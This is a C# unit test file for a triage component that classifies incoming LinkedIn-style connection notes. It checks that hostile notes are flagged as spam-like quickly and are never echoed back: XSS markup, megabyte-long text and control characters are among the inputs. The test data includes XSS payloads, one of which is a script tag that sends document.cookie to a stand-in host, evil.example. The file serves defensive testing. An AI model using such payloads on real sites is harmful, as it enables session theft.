using System.Diagnostics;
using System.Text;
using NetworkAdvisor.Analysis;
using NetworkAdvisor.Model;

namespace NetworkAdvisor.Tests.Analysis;

/// <summary>Notes are untrusted: markup, huge notes, control characters and broken text must come back fast and never be echoed.</summary>
public sealed class InvitationHostileNoteTests
{
    private static readonly DateOnly AsOf = new(2026, 3, 1);

    private static Invitation Note(string note, string from = "Mallory", string url = "https://www.linkedin.com/in/mallory") =>
        new(from, "Ada Lovelace", new DateTime(2026, 2, 1), note, InvitationDirection.Incoming, url, "");

    [Theory]
    [InlineData("<img src=x onerror=alert(1)>", "Contains HTML or script markup: spam-like.")]
    [InlineData("<a href=\"javascript:alert(1)\">we met</a>", "Contains HTML or script markup: spam-like.")]
    [InlineData("<script>document.location='http://evil.example/?c='+document.cookie</script>", "Has a link and contains HTML or script markup: spam-like.")]
    [InlineData("<iframe src=\"https://evil.example\"></iframe> passive income", "Mentions 'passive income', has a link and contains HTML or script markup: spam-like.")]
    public void Markup_is_spam_like_and_never_echoed(string note, string reason)
    {
        var result = Assert.Single(InvitationTriage.Analyze([Note(note)], AsOf).Incoming);

        Assert.Equal((InvitationCategory.SpamLike, reason), (result.Category, result.Reason));
        Assert.DoesNotContain('<', result.Reason);
        Assert.DoesNotContain("evil", result.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void A_one_megabyte_note_is_triaged_in_bounded_time_with_a_short_reason()
    {
        var huge = new StringBuilder();
        while (huge.Length < 1 << 20)
        {
            huge.Append("<script>alert(1)</script> http://x.io ").Append("aaaa ");
        }

        var note = huge.ToString(0, 1 << 20);
        var clock = Stopwatch.StartNew();

        var result = InvitationTriage.Analyze([Note(note), Note(note, "Eve", "https://www.linkedin.com/in/eve")], AsOf);

        clock.Stop();
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(5), $"took {clock.Elapsed}");
        Assert.All(result.Incoming, a => Assert.Equal(InvitationCategory.SpamLike, a.Category));
        var reason = result.Incoming[0].Reason;
        Assert.InRange(reason.Length, 1, 300);
        Assert.Contains("is 1,048,576 characters long (a LinkedIn note holds at most 300)", reason, StringComparison.Ordinal);
        Assert.Contains("the same note came from 2 different senders", reason, StringComparison.Ordinal);
        Assert.DoesNotContain("<script>", reason, StringComparison.Ordinal);
    }

    [Fact]
    public void A_megabyte_of_one_word_without_spaces_is_fast()
    {
        var note = new string('a', 1 << 20);
        var clock = Stopwatch.StartNew();

        var result = Assert.Single(InvitationTriage.Analyze([Note(note)], AsOf).Incoming);

        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(5), $"took {clock.Elapsed}");
        Assert.Equal("Is 1,048,576 characters long (a LinkedIn note holds at most 300): spam-like.", result.Reason);
    }

    [Theory]
    [InlineData("\u0000\u0001\u001b[31m we met\u0007 at the meetup\u001b[0m", InvitationCategory.PersonalNote, "Mentions 'we met' and 'meetup': a shared context.")]
    [InlineData("\uD800 we met \uDC00\uFFFF\u200B", InvitationCategory.PersonalNote, "Mentions 'we met': a shared context.")]
    [InlineData("we\u00A0met", InvitationCategory.PersonalNote, "Mentions 'we met': a shared context.")]
    [InlineData("re\u0301ussi nous nous sommes rencontre\u0301s", InvitationCategory.PersonalNote, "Mentions 'nous nous sommes rencontrés': a shared context.")]
    [InlineData("\u0000\u0000\u0000", InvitationCategory.PersonalNote, "A note without a shared context, a pitch or a job offer: look at the profile before accepting.")]
    public void Control_characters_and_broken_text_do_not_break_matching(string note, InvitationCategory category, string reason)
    {
        var result = Assert.Single(InvitationTriage.Analyze([Note(note)], AsOf).Incoming);

        Assert.Equal((category, reason), (result.Category, result.Reason));
        Assert.DoesNotContain(result.Reason, char.IsControl);
    }

    [Fact]
    public void Keywords_match_whole_words_only()
    {
        // "demonstrate", "rolex", "leadership", "cryptography", "positional" hold keywords inside words only.
        var result = Assert.Single(InvitationTriage.Analyze([Note("I demonstrate leadership with a Rolex and cryptography, positional play")], AsOf).Incoming);

        Assert.Equal(InvitationCategory.PersonalNote, result.Category);
    }
}
